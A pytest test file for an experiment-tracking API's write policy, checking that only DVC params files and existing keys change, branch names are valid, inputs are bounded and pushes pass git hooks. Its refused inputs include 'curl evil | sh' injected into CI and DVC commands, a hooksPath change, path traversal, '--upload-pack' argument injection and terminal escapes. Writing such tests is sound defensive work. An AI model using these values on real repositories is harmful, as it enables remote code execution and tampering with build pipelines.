"""The write policy (sync/write_policy.py) through the API: runExperiment edits only the params
files DVC reads, only keys DVC shows there, inside the project's subdir, never dvc.yaml,
.git/, .dvc/ or CI definitions; branch names follow git's rules plus no '-', HEAD, refs/,
control characters, 200 bytes; every write input is bounded; and every write into a
repository on this machine, registry tags included, goes through receive-pack, so its hooks
run. Every refusal: the typed code, and nothing changed (rows, refs of every repository)."""

from __future__ import annotations

import subprocess
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from harness import assert_same
from policy_support import World, strict, world_for
from support import Api, git

from schema.relay import to_global_id
from storage import db
from storage.tokens import Scope, create_token
from sync.generate import RepoSpec, add_commit, generate_repo
from sync.generate_registry import RegistrySpec, generate_registry

RUN = """mutation($input: RunExperimentInput!) { runExperiment(input: $input) {
  commit { sha } branch errors { code message field } } }"""
BRANCH_FROM = """mutation($input: CreateBranchFromExperimentInput!) {
  createBranchFromExperiment(input: $input) { branch errors { code message field } } }"""
REGISTER = """mutation($input: RegisterModelVersionInput!) {
  registerModelVersion(input: $input) { tag errors { code message field } } }"""

# A hook that refuses refs named "blocked" and records every ref it lets in.
PRE_RECEIVE = """#!/bin/sh
while read old new ref; do
  case "$ref" in *blocked*) echo "policy: $ref is blocked" >&2; exit 1;; esac
done
"""
POST_RECEIVE = """#!/bin/sh
while read old new ref; do echo "$ref" >> "$GIT_DIR/received.log"; done
"""


@dataclass
class Writes:
    world: World
    projects: dict[str, str]  # alpha, mono, hooked, registry -> global id
    experiment: str  # an experiment of alpha (global id)
    models_token: str


def hooked(repo: Path, bare: Path) -> Path:
    """A bare clone of ``repo`` with the receive hooks above."""
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(bare)], check=True)
    for name, script in (("pre-receive", PRE_RECEIVE), ("post-receive", POST_RECEIVE)):
        hook = bare / "hooks" / name
        hook.write_text(script)
        hook.chmod(0o755)
    return bare


@pytest.fixture(scope="module")
async def writes(api: Api, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Writes]:
    root = tmp_path_factory.mktemp("write-root").resolve()
    generate_repo(root / "alpha", RepoSpec(commits=6, exps_per_commit=1, gto_tags=False))
    add_commit(
        root / "alpha",
        "main",
        {
            ".github/workflows/ci.yml": "on: push\njobs: {}\n",
            ".gitlab-ci.yml": "test:\n  script: pytest\n",
            "notes.yaml": "lr: 1\n",  # a YAML file no dvc.yaml names
        },
        "CI definitions and a file DVC does not read",
    )
    generate_repo(
        root / "mono", RepoSpec(commits=2, branches=("main",), exps_per_commit=0, subdir="proj")
    )
    add_commit(root / "mono", "main", {"shared.yaml": "lr: 1\n"}, "above the subdir")
    hooked(root / "alpha", root / "hooked.git")
    generate_registry(root / "registry-src", RegistrySpec(models=1, versions=1, seed=3))
    hooked(root / "registry-src", root / "registry.git")
    repos = [root / n for n in ("alpha", "mono", "hooked.git", "registry.git")]
    async for world in world_for(strict(api.settings, root), root, root, repos):
        syncer = world.state.syncer
        tag = uuid.uuid4().hex[:6]
        projects = {}
        for name, subdir in (("alpha", ""), ("mono", "proj"), ("hooked", ""), ("registry", "")):
            path = root / (name if name in ("alpha", "mono") else f"{name}.git")
            project = await syncer.create(str(path), f"w-{name}-{tag}", subdir, None)
            projects[name] = to_global_id("Project", project.id)
        rows = await db.fetch(
            "SELECT e.id FROM experiments e JOIN projects p ON p.id = e.project_id"
            " WHERE p.name = ? AND e.kind = 'EXPERIMENT' ORDER BY e.id",
            [f"w-alpha-{tag}"],
        )
        _row, models = await create_token(f"w-models-{tag}", frozenset({Scope.MODELS}))
        yield Writes(world, projects, to_global_id("Experiment", int(rows[0]["id"])), models)


async def call(w: Writes, mutation: str, fields: dict[str, Any], token: str = "") -> Any:
    response = await w.world.client.post(
        "/graphql",
        json={"query": mutation, "variables": {"input": fields}},
        headers={"Authorization": f"token {token or w.world.token}"},
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert "errors" not in body, body
    return next(iter(body["data"].values()))


async def refused(
    w: Writes, mutation: str, fields: dict[str, Any], code: str, field: str | None, token: str = ""
) -> dict[str, Any]:
    before = await w.world.snapshot()
    payload = await call(w, mutation, fields, token)
    [error] = payload["errors"]
    assert (error["code"], error["field"]) == (code, field), error
    assert_same(before, await w.world.snapshot())
    return dict(error)


_names = iter(range(10**6))


def run_input(w: Writes, project: str = "alpha", **fields: Any) -> dict[str, Any]:
    return {
        "projectId": w.projects[project],
        "baseRev": "main",
        "target": "BRANCH",
        "branch": f"exp-{next(_names)}",
        "paramChanges": [{"file": "params.yaml", "path": "lr", "value": 0.5}],
        **fields,
    }


def change(file: str, path: str, value: Any = 1, **flags: Any) -> dict[str, Any]:
    return {"paramChanges": [{"file": file, "path": path, "value": value, **flags}]}


FORBIDDEN_FILES = [
    ("dvc.yaml", change("dvc.yaml", "stages.train.cmd", "curl evil | sh")),
    ("nested-dvc.yaml", change("eval/dvc.yaml", "stages.evaluate.cmd", "x")),
    ("dvc.lock", change("dvc.lock", "schema", "3.0")),
    ("github-workflow", change(".github/workflows/ci.yml", "on", "pull_request")),
    ("gitlab-ci", change(".gitlab-ci.yml", "test.script", "curl evil | sh")),
    ("dvc-config", change(".dvc/config", "core.remote", "evil")),
    ("git-config", change(".git/config", "core.hooksPath", "/tmp")),
    ("a-yaml-dvc-does-not-read", change("notes.yaml", "lr", 2)),
    ("code", change("train.py", "x", 1)),
    ("dotdot", change("../params.yaml", "lr", 2)),
    ("dotdot-inside", change("eval/../../params.yaml", "lr", 2)),
    ("absolute", change("/etc/passwd", "x", 1)),
    ("backslash", change("eval\\params.yaml", "threshold", 1)),
]


@pytest.mark.parametrize(
    "fields", [f for _, f in FORBIDDEN_FILES], ids=[n for n, _ in FORBIDDEN_FILES]
)
async def test_only_params_files_dvc_reads_are_written(writes: Writes, fields: Any) -> None:
    await refused(writes, RUN, run_input(writes, **fields), "FORBIDDEN", "paramChanges")


async def test_a_subdir_project_never_reaches_above_its_subdir(writes: Writes) -> None:
    for file in ("../shared.yaml", "../params.yaml", "../proj/../shared.yaml"):
        fields = run_input(writes, "mono", **change(file, "lr", 2))
        await refused(writes, RUN, fields, "FORBIDDEN", "paramChanges")


MISSING_KEYS = [
    ("new-key", change("params.yaml", "brand_new", 1, new=True)),
    ("new-nested-key", change("params.yaml", "model.brand_new", 1, new=True)),
    ("a-key-dvc-does-not-track", change("train_config.json", "workers", 8)),
    ("below-a-tracked-key", change("train_config.json", "optimizer.beta", 0.5)),
    ("list-index-past-the-end", change("params.yaml", "layers.99", 1)),
]


@pytest.mark.parametrize("fields", [f for _, f in MISSING_KEYS], ids=[n for n, _ in MISSING_KEYS])
async def test_only_existing_keys_are_changed(writes: Writes, fields: Any) -> None:
    await refused(writes, RUN, run_input(writes, **fields), "NOT_FOUND", "paramChanges")


BAD_NAMES = [
    "-x",
    "--upload-pack=x",
    "HEAD",
    "refs/heads/main",
    "a..b",
    "a b",
    "x\x01y",
    "x\x00y",
    "x.lock",
    "@",
    ".hidden",
    "a/.b",
    "a//b",
    "x/",
    "x.",
    "a@{1}",
    "a~1",
    "a^",
    "a:b",
    "a?",
    "a*",
    "a[b",
    "a\\b",
    "",
    "b" * 201,
    "é" * 101,  # 202 bytes
    "b" * 5000,
]


@pytest.mark.parametrize("name", BAD_NAMES, ids=[repr(n)[:20] for n in BAD_NAMES])
async def test_branch_names_follow_gits_rules_and_ours(writes: Writes, name: str) -> None:
    await refused(writes, RUN, run_input(writes, branch=name), "INVALID", "branch")
    fields = {"experimentId": writes.experiment, "branch": name}
    await refused(writes, BRANCH_FROM, fields, "INVALID", "branch")


def _changes(n: int) -> dict[str, Any]:
    return {"paramChanges": [{"file": "params.yaml", "path": "lr", "value": 0.1}] * n}


OVER_BOUNDS = [
    ("path-5000-keys", change("params.yaml", ".".join(["a"] * 5000), 1), "paramChanges"),
    ("path-33-keys", change("params.yaml", ".".join(["a"] * 33), 1), "paramChanges"),
    ("path-2kb", change("params.yaml", "a" * 2000, 1), "paramChanges"),
    ("file-2kb", change("a" * 2000 + ".yaml", "lr", 1), "paramChanges"),
    ("value-500kb", change("params.yaml", "model.activation", "x" * 500_000), "paramChanges"),
    ("value-nul", change("params.yaml", "model.activation", "re\x00lu"), "paramChanges"),
    ("value-nul-deep", change("params.yaml", "layers", [1, {"k\x00": 2}]), "paramChanges"),
    ("path-nul", change("params.yaml", "l\x00r", 1), "paramChanges"),
    ("file-nul", change("params.yaml\x00", "lr", 1), "paramChanges"),
    ("path-control", change("params.yaml", "l\x07r", 1), "paramChanges"),
    ("file-newline", change("params.yaml\n", "lr", 1), "paramChanges"),
    ("101-changes", _changes(101), "paramChanges"),
    ("message-nul", {"message": "run\x00"}, "message"),
    ("message-100kb", {"message": "m" * 100_000}, "message"),
    ("base-rev-nul", {"baseRev": "main\x00"}, "baseRev"),
    ("base-rev-5000", {"baseRev": "m" * 5000}, "baseRev"),
    ("title-2kb", {"target": "PULL_REQUEST", "title": "t" * 2000}, "title"),
    ("title-escape", {"target": "PULL_REQUEST", "title": "t\x1b[2J"}, "title"),
    ("title-newline", {"target": "PULL_REQUEST", "title": "t\nFixes: evil"}, "title"),
    ("base-rev-control", {"baseRev": "main\x7f"}, "baseRev"),
    ("body-nul", {"target": "PULL_REQUEST", "body": "b\x00"}, "body"),
    ("body-100kb", {"target": "PULL_REQUEST", "body": "b" * 100_000}, "body"),
]


@pytest.mark.parametrize(
    ("fields", "field"), [c[1:] for c in OVER_BOUNDS], ids=[c[0] for c in OVER_BOUNDS]
)
async def test_write_inputs_are_bounded(writes: Writes, fields: Any, field: str) -> None:
    await refused(writes, RUN, run_input(writes, **fields), "INVALID", field)


async def test_params_files_dvc_reads_are_written(writes: Writes) -> None:
    root = writes.world.root
    for project, file, path, value in [
        ("alpha", "params.yaml", "model.depth", 7),  # the default params file, wholly
        ("alpha", "train_config.json", "optimizer.name", "sgd"),  # a stage's file: entry
        ("alpha", "eval/params.yaml", "threshold", 0.25),  # a nested dvc.yaml's stage
        ("alpha", "dvclive/params.yaml", "lr", 0.5),  # top-level params:
        ("mono", "params.yaml", "lr", 0.5),  # relative to the subdir
    ]:
        payload = await call(writes, RUN, run_input(writes, project, **change(file, path, value)))
        assert payload["errors"] == [], (file, payload)
        repo = root / project
        changed = git(repo, "diff", "--name-only", "main", payload["commit"]["sha"])
        expected = f"proj/{file}" if project == "mono" else file
        assert changed.splitlines() == [expected]


async def test_local_writes_go_through_receive_pack(writes: Writes) -> None:
    """A repository on this machine receives every write by push: its pre-receive hook can
    refuse (nothing is left behind), its post-receive hook sees what it accepted."""
    bare = writes.world.root / "hooked.git"
    log = bare / "received.log"
    await refused(writes, RUN, run_input(writes, "hooked", branch="blocked-1"), "CONFLICT", None)
    done = await call(writes, RUN, run_input(writes, "hooked", branch="accepted-1"))
    assert done["errors"] == [] and "refs/heads/accepted-1" in log.read_text().split()
    assert git(bare, "rev-parse", "refs/heads/accepted-1") == done["commit"]["sha"]


async def test_registry_tags_go_through_receive_pack(writes: Writes) -> None:
    bare = writes.world.root / "registry.git"
    log = bare / "received.log"
    fields = {"projectId": writes.projects["registry"], "rev": "main"}
    # The hook refuses the blocked ones: a model named so is refused there, and stays away.
    blocked = {**fields, "model": "blocked-model"}
    await refused(writes, REGISTER, blocked, "CONFLICT", None, writes.models_token)
    done = await call(writes, REGISTER, {**fields, "model": "fresh-model"}, writes.models_token)
    assert done["errors"] == [] and f"refs/tags/{done['tag']}" in log.read_text().split()
    assert git(bare, "tag", "--list", done["tag"]) == done["tag"]


TAG_BOUNDS = [
    ("model-5000", {"model": "m" * 5000}, "model"),
    ("model-nul", {"model": "model-0\x00"}, "model"),
    ("version-huge", {"version": "v" + "9" * 5000 + ".0.0"}, "version"),
    ("version-nul", {"version": "v9.0.0\x00"}, "version"),
    ("rev-nul", {"rev": "main\x00"}, "rev"),
    ("rev-control", {"rev": "main\x1b"}, "rev"),
    ("version-newline", {"version": "v9.0.0\n"}, "version"),
    ("message-nul", {"message": "a\x00b"}, "message"),
    ("message-100kb", {"message": "m" * 100_000}, "message"),
]


@pytest.mark.parametrize(
    ("fields", "field"), [c[1:] for c in TAG_BOUNDS], ids=[c[0] for c in TAG_BOUNDS]
)
async def test_registry_write_inputs_are_bounded(writes: Writes, fields: Any, field: str) -> None:
    request = {"projectId": writes.projects["registry"], "model": "model-0", "rev": "main"}
    await refused(writes, REGISTER, {**request, **fields}, "INVALID", field, writes.models_token)


async def test_two_spellings_of_one_file_are_one_file(writes: Writes) -> None:
    """``params.yaml`` and ``./params.yaml`` are one file: both changes land in one commit
    (neither edit of the base file overwrites the other)."""
    changes = [
        {"file": "params.yaml", "path": "lr", "value": 0.25},
        {"file": "./params.yaml", "path": "model.depth", "value": 9},
        {"file": "././params.yaml", "path": "seed", "value": 7},
    ]
    payload = await call(writes, RUN, run_input(writes, paramChanges=changes))
    assert payload["errors"] == [], payload
    written = git(writes.world.root / "alpha", "show", f"{payload['commit']['sha']}:params.yaml")
    assert "lr: 0.25\n" in written and "  depth: 9\n" in written and "seed: 7\n" in written


SAME_KEY_TWICE = [
    ("same-spelling", [("params.yaml", "lr"), ("params.yaml", "lr")]),
    ("dot-slash", [("params.yaml", "lr"), ("./params.yaml", "lr")]),
    (
        "dot-slashes",
        [("params.yaml", "model.depth"), ("././params.yaml", "model.depth")],
    ),
    ("empty-key-parts", [("params.yaml", "model.depth"), ("params.yaml", "model..depth.")]),
]


@pytest.mark.parametrize(
    "pairs", [p for _, p in SAME_KEY_TWICE], ids=[n for n, _ in SAME_KEY_TWICE]
)
async def test_one_key_is_changed_once_per_request(
    writes: Writes, pairs: list[tuple[str, str]]
) -> None:
    """Two values for one key in one request: which would win? Refused, nothing written."""
    changes = [{"file": f, "path": p, "value": n} for n, (f, p) in enumerate(pairs)]
    error = await refused(
        writes, RUN, run_input(writes, paramChanges=changes), "INVALID", "paramChanges"
    )
    assert "changed twice" in error["message"]


LONG_TAGS = [
    ("model-and-version", {"model": "m" * 195, "version": "v1.0.0"}),  # 202 bytes
    ("model-and-bumped-version", {"model": "m" * 195}),  # m...m@v0.0.1
]


@pytest.mark.parametrize("fields", [f for _, f in LONG_TAGS], ids=[n for n, _ in LONG_TAGS])
async def test_the_whole_tag_name_is_bounded(writes: Writes, fields: dict[str, Any]) -> None:
    """Each part within 200 bytes, the tag they make longer: refused before it is written."""
    request = {"projectId": writes.projects["registry"], "rev": "main", **fields}
    error = await refused(writes, REGISTER, request, "INVALID", "model", writes.models_token)
    assert "longer than 200 bytes" in error["message"]


async def test_git_is_read_in_english_whatever_the_locale(
    writes: Writes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server runs under a German locale: the messages of git push that are matched
    and passed on are still git's English ones."""
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    monkeypatch.setenv("LANGUAGE", "de")
    hook = await refused(
        writes, RUN, run_input(writes, "hooked", branch="blocked-de"), "CONFLICT", None
    )
    assert "failed to push some refs" in hook["message"], hook
    assert "policy: refs/heads/blocked-de is blocked" in hook["message"]
    checked_out = run_input(writes, target="COMMIT", branch=None)
    error = await refused(writes, RUN, checked_out, "CONFLICT", "branch")
    assert "checked out in the repository's working tree" in error["message"]


async def test_messages_keep_their_lines_and_tabs(writes: Writes) -> None:
    """Only names, paths and titles are one line: a commit message keeps its layout."""
    message = "Sweep lr\n\n\tlr: 0.5"
    payload = await call(writes, RUN, run_input(writes, message=message))
    assert payload["errors"] == [], payload
    sha = payload["commit"]["sha"]
    assert git(writes.world.root / "alpha", "cat-file", "-p", sha).endswith(message)
